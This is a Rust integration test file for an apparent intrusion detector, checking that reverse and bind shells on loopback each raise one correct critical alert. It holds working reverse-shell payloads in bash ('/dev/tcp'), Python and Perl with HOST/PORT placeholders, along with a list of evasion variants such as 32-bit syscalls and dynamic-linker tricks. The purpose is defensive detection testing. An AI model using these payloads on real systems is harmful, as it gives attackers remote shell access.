//! Real reverse and bind shells on loopback: each is one critical alert, with its facts right.

use std::{
    fs::Permissions,
    io::{BufRead, BufReader, Read, Write},
    net::{SocketAddr, TcpStream},
    os::unix::fs::PermissionsExt,
    process::{Child, Command, Stdio},
    time::Duration,
};

use sentinel_tests::{
    bed::{Bed, skip},
    peer::{Peer, Shell, free_port},
    programs::compiled,
    sentinel::{Sentinel, start_ticks, within},
};
use serde_json::Value;

/// Which process the alert has to name.
#[derive(Clone, Copy)]
enum Culprit {
    /// The shell that answers.
    Shell,
    /// The process that the test started, which relays to a shell on a terminal.
    Started,
}

/// Plays the attacker against `command` and checks the one alert.
fn attack(loopback: &str, culprit: Culprit, command: impl FnOnce(&Bed, SocketAddr) -> Command) {
    let Some(bed) = Bed::new() else { return };
    let sentinel = Sentinel::start(&bed, &[]);
    let peer = Peer::listen(loopback);
    let mut child = spawn(&mut command(&bed, peer.address()));
    let shell = peer.shell();
    let expected = talk(shell, &child, culprit);
    child.wait().unwrap();
    check(sentinel.stop().alerts, expected, peer.address());
}

fn spawn(command: &mut Command) -> Child {
    command.stdin(Stdio::null()).stdout(Stdio::null()).stderr(Stdio::null()).spawn().unwrap()
}

/// Uses the shell; returns pid and start (clock ticks) of the process to be named.
fn talk(mut shell: Shell, child: &Child, culprit: Culprit) -> (u32, u64) {
    let shell_pid = shell.pid();
    let pid = match culprit {
        Culprit::Shell => shell_pid,
        Culprit::Started => child.id(),
    };
    let expected = (pid, start_ticks(pid));
    shell.exit();
    expected
}

fn check(alerts: Vec<Value>, (pid, start): (u32, u64), remote: SocketAddr) {
    // On a slow machine a shell may first be noted as one that may be honest (severity high). What others did on
    // its connection is a count.
    let is_one = |alert: &&Value| alert["severity"] == "critical" && alert.get("count").is_none();
    let critical: Vec<&Value> = alerts.iter().filter(is_one).collect();
    assert_eq!(critical.len(), 1, "{alerts:#?}");
    let alert = critical[0];
    assert_eq!(alert["pattern_name"], "reverse_shell");
    assert_eq!(alert["severity"], "critical");
    assert_eq!(alert["mitre"], "T1059");
    assert_eq!(alert["action"], "logged");
    assert_eq!(alert["pid"], pid, "{alert:#}");
    // USER_HZ is 100 on every architecture that Sentinel knows.
    assert_eq!(alert["start_time"].as_u64().unwrap() / 10_000_000, start);
    assert_eq!(alert["remote_ip"], remote.ip().to_string());
    assert_eq!(alert["remote_port"], remote.port());
    let steps = alert["steps"].as_array().unwrap();
    let times: Vec<u64> =
        steps.iter().map(|step| step["timestamp_boot"].as_u64().unwrap()).collect();
    assert!(
        times.is_sorted() && *times.last().unwrap() <= alert["timestamp_boot"].as_u64().unwrap()
    );
    let named = |event: &str| steps.iter().any(|step| step["event"] == event);
    assert!(named("connect") || named("accept"), "{alert:#}");
    let peer = remote.to_string();
    assert!(
        steps.iter().any(|step| step["detail"].as_str().unwrap().contains(&peer)),
        "a step tells the peer: {alert:#}"
    );
    assert!(named("exec") || named("hold"), "{alert:#}");
}

fn program(how: &'static str, family: &'static str) -> impl FnOnce(&Bed, SocketAddr) -> Command {
    move |bed, remote| {
        let mut command = bed.command(compiled("shell_on_socket"));
        command.args([how, family, "connect", &remote.port().to_string()]);
        command
    }
}

fn script(
    interpreter: &'static str,
    option: &'static str,
    code: &'static str,
) -> impl FnOnce(&Bed, SocketAddr) -> Command {
    move |bed, remote| {
        let code = code
            .replace("HOST", &remote.ip().to_string())
            .replace("PORT", &remote.port().to_string());
        let mut command = bed.command(interpreter);
        command.arg(option).arg(code);
        command
    }
}

#[test]
fn c_with_dup2() {
    attack("127.0.0.1", Culprit::Shell, program("dup2", "4"));
}

#[test]
fn c_with_dup3() {
    attack("127.0.0.1", Culprit::Shell, program("dup3", "4"));
}

#[test]
fn c_with_fcntl_dupfd() {
    attack("127.0.0.1", Culprit::Shell, program("fdupfd", "4"));
}

#[test]
fn c_with_close_and_dup() {
    attack("127.0.0.1", Culprit::Shell, program("close_dup", "4"));
}

#[test]
fn c_in_reversed_order() {
    attack("127.0.0.1", Culprit::Shell, program("reversed", "4"));
}

#[test]
fn c_in_a_child_before_its_exec() {
    attack("127.0.0.1", Culprit::Shell, program("child", "4"));
}

#[test]
fn c_with_the_socket_on_zero_from_the_start() {
    attack("127.0.0.1", Culprit::Shell, program("direct", "4"));
}

#[test]
fn c_that_connects_after_redirecting() {
    attack("127.0.0.1", Culprit::Shell, program("late", "4"));
}

#[test]
fn c_over_ipv6() {
    attack("::1", Culprit::Shell, program("dup2", "6"));
}

fn bind_shell(how: &str, family: &str, loopback: &str) {
    let Some(bed) = Bed::new() else { return };
    let sentinel = Sentinel::start(&bed, &[]);
    let mut child = bed
        .command(compiled("shell_on_socket"))
        .args([how, family, "accept"])
        .stdin(Stdio::null())
        .stdout(Stdio::piped())
        .spawn()
        .unwrap();
    let mut port = String::new();
    BufReader::new(child.stdout.take().unwrap()).read_line(&mut port).unwrap();
    let there = SocketAddr::new(loopback.parse().unwrap(), port.trim().parse().unwrap());
    let stream = TcpStream::connect(there).unwrap();
    let remote = stream.local_addr().unwrap();
    let expected = talk(Shell::on(stream), &child, Culprit::Shell);
    child.wait().unwrap();
    check(sentinel.stop().alerts, expected, remote);
}

#[test]
fn c_on_the_accepting_side() {
    bind_shell("dup2", "4", "127.0.0.1");
}

#[test]
fn c_on_the_accepting_side_over_ipv6() {
    bind_shell("close_dup", "6", "::1");
}

#[test]
fn bash_with_dev_tcp() {
    let code = "bash -i >& /dev/tcp/HOST/PORT 0>&1";
    attack("127.0.0.1", Culprit::Shell, script("bash", "-c", code));
}

#[test]
fn bash_that_redirects_itself() {
    let code = "exec 0<>/dev/tcp/HOST/PORT 1>&0; while read -r line; do eval \"$line\"; \
                sh -c true; done";
    attack("127.0.0.1", Culprit::Shell, script("bash", "-c", code));
}

#[test]
fn bash_in_a_dialogue() {
    let code = "exec 5<>/dev/tcp/HOST/PORT; while read -r line <&5; do eval \"$line; \
                /bin/true\" >&5 2>&1; /bin/echo done >&5; done";
    let Some(bed) = Bed::new() else { return };
    let sentinel = Sentinel::start(&bed, &[]);
    let peer = Peer::listen("127.0.0.1");
    let mut child = spawn(&mut script("bash", "-c", code)(&bed, peer.address()));
    let mut shell = peer.shell();
    assert_eq!(shell.pid(), shell.pid());
    let expected = talk(shell, &child, Culprit::Shell);
    child.wait().unwrap();
    check(sentinel.stop().alerts, expected, peer.address());
}

#[test]
fn python_with_subprocess() {
    let code = "import os,socket,subprocess\ns=socket.create_connection(('HOST',PORT))\nfor i in \
                range(3): os.dup2(s.fileno(),i)\nsubprocess.call(['/bin/sh','-i'])";
    attack("127.0.0.1", Culprit::Shell, script("python3", "-c", code));
}

#[test]
fn python_with_a_pty() {
    let code = "import os,pty,socket\ns=socket.create_connection(('HOST',PORT))\nfor i in \
                range(3): os.dup2(s.fileno(),i)\npty.spawn('/bin/sh')";
    attack("127.0.0.1", Culprit::Started, script("python3", "-c", code));
}

#[test]
fn perl_that_execs() {
    let code = "use Socket;socket(S,PF_INET,SOCK_STREAM,0);connect(S,sockaddr_in(PORT,\
                inet_aton('HOST')))or die;open(STDIN,'>&S');open(STDOUT,'>&S');\
                open(STDERR,'>&S');exec('/bin/sh -i');";
    attack("127.0.0.1", Culprit::Shell, script("perl", "-e", code));
}

#[test]
fn c_with_system_call_numbers_above_32_bits() {
    // The kernel looks at the lower half of the number only.
    attack("127.0.0.1", Culprit::Shell, program("high_number", "4"));
}

#[test]
fn c_behind_a_thread_with_a_table_of_its_own() {
    attack("127.0.0.1", Culprit::Shell, program("private_table", "4"));
}

#[test]
fn c_through_the_dynamic_linker() {
    attack("127.0.0.1", Culprit::Shell, program("linker", "4"));
}

#[test]
fn a_script_that_opens_an_interactive_shell() {
    let Some(bed) = Bed::new() else { return };
    let script = bed.path("handler.sh");
    std::fs::write(&script, "exec /bin/sh -i\n").unwrap();
    let sentinel = Sentinel::start(&bed, &[]);
    let peer = Peer::listen("127.0.0.1");
    let mut command = bed.command(compiled("shell_on_socket"));
    command.args(["script", "4", "connect", &peer.address().port().to_string()]).arg(&script);
    let mut child = spawn(&mut command);
    let expected = talk(peer.shell(), &child, Culprit::Shell);
    child.wait().unwrap();
    let alerts = sentinel.stop().alerts;
    assert_eq!(alerts.len(), 2, "high for the script, critical for the shell: {alerts:#?}");
    check(alerts, expected, peer.address());
}

#[test]
fn a_script_that_is_polled_is_told_once() {
    if !std::path::Path::new("/usr/bin/systemd-socket-activate").exists() {
        return skip("not installed: systemd-socket-activate");
    }
    let Some(bed) = Bed::new() else { return };
    let script = bed.path("check");
    // It takes its output off for a moment, as each redirection of a builtin does.
    let code = "#!/bin/bash\nread -r line; echo polled >/dev/null; uptime; date; uname -a\n";
    std::fs::write(&script, code).unwrap();
    std::fs::set_permissions(&script, Permissions::from_mode(0o755)).unwrap();
    let sentinel = Sentinel::start(&bed, &[]);
    let address = SocketAddr::new("127.0.0.1".parse().unwrap(), free_port());
    let mut command = bed.command("systemd-socket-activate");
    let address_word = address.to_string();
    command.args(["-l", address_word.as_str(), "--inetd", "-a"]).arg(&script);
    let mut child = spawn(&mut command);
    for _ in 0..4 {
        let mut stream = None;
        assert!(within(Duration::from_secs(10), || {
            stream = TcpStream::connect(address).ok();
            stream.is_some()
        }));
        let mut stream = stream.unwrap();
        stream.write_all(b"hello\n").unwrap();
        let mut said = String::new();
        stream.read_to_string(&mut said).unwrap();
        assert!(said.contains("Linux"), "{said}");
    }
    child.kill().unwrap();
    child.wait().unwrap();
    let alerts = sentinel.stop().alerts;
    let of_it: Vec<&Value> =
        alerts.iter().filter(|alert| alert["pattern_name"] == "reverse_shell").collect();
    assert_eq!(of_it.len(), 1, "{alerts:#?}");
    assert_eq!(of_it[0]["severity"], "high");
}

#[test]
fn bash_that_reads_through_a_pipe() {
    let code = "exec 5<>/dev/tcp/HOST/PORT; cat <&5 | while read -r line; do \
                bash -c \"$line\" >&5 2>&5; done";
    let Some(bed) = Bed::new() else { return };
    let sentinel = Sentinel::start(&bed, &[]);
    let peer = Peer::listen("127.0.0.1");
    let mut child = spawn(&mut script("bash", "-c", code)(&bed, peer.address()));
    let mut shell = peer.shell();
    // Each line is run by a shell of its own; its parent is the culprit.
    let ran = [shell.pid(), shell.pid(), shell.pid()];
    shell.exit_input();
    child.wait().unwrap();
    let alerts = sentinel.stop().alerts;
    let critical: Vec<&Value> =
        alerts.iter().filter(|alert| alert["severity"] == "critical").collect();
    assert_eq!(critical.len(), 1, "{alerts:#?}");
    assert!(!ran.contains(&u32::try_from(critical[0]["pid"].as_u64().unwrap()).unwrap()));
    assert_eq!(critical[0]["ppid"], child.id());
    assert_eq!(critical[0]["remote_port"], peer.address().port());
}

#[test]
fn perl_that_runs_command_after_command() {
    let code = "use IO::Socket;$c=new IO::Socket::INET(PeerAddr,\"HOST:PORT\");\
                STDIN->fdopen($c,r);$~->fdopen($c,w);system$_ while<>;";
    let Some(bed) = Bed::new() else { return };
    let sentinel = Sentinel::start(&bed, &[]);
    let peer = Peer::listen("127.0.0.1");
    let mut child = spawn(&mut script("perl", "-e", code)(&bed, peer.address()));
    let mut shell = peer.shell();
    let expected = (child.id(), start_ticks(child.id()));
    // "echo pid''=$$." needs a shell, which perl starts for each line.
    let ran = [shell.pid(), shell.pid(), shell.pid()];
    assert!(!ran.contains(&child.id()));
    shell.exit_input();
    child.wait().unwrap();
    check(sentinel.stop().alerts, expected, peer.address());
}

/// The steps, and so all 32-bit calls, have to be seen: at exec alone the peer's history is unknown,
/// and `check` asks for it.
#[test]
fn c_with_32_bit_calls() {
    attack("127.0.0.1", Culprit::Shell, program("int80", "4"));
}

#[test]
fn c_with_32_bit_socketcalls() {
    attack("127.0.0.1", Culprit::Shell, program("int80_socketcall", "4"));
}

#[test]
fn python_that_ran_before_the_sensor() {
    let code = "import os,pty,socket,sys\nopen(sys.argv[1]).read()\n\
                s=socket.create_connection(('HOST',PORT))\nfor i in \
                range(3): os.dup2(s.fileno(),i)\npty.spawn('/bin/sh')";
    let Some(bed) = Bed::new() else { return };
    let go = bed.path("go");
    nix::unistd::mkfifo(&go, nix::sys::stat::Mode::S_IRWXU).unwrap();
    let peer = Peer::listen("127.0.0.1");
    let mut command = script("python3", "-c", code)(&bed, peer.address());
    let mut child = spawn(command.arg(&go));
    let started = || std::fs::read_to_string(format!("/proc/{}/comm", child.id()));
    assert!(within(Duration::from_secs(10), || started().is_ok_and(|comm| comm != "sh\n")));
    let sentinel = Sentinel::start(&bed, &[]);
    std::fs::write(&go, "go").unwrap();
    let expected = talk(peer.shell(), &child, Culprit::Started);
    child.wait().unwrap();
    check(sentinel.stop().alerts, expected, peer.address());
}
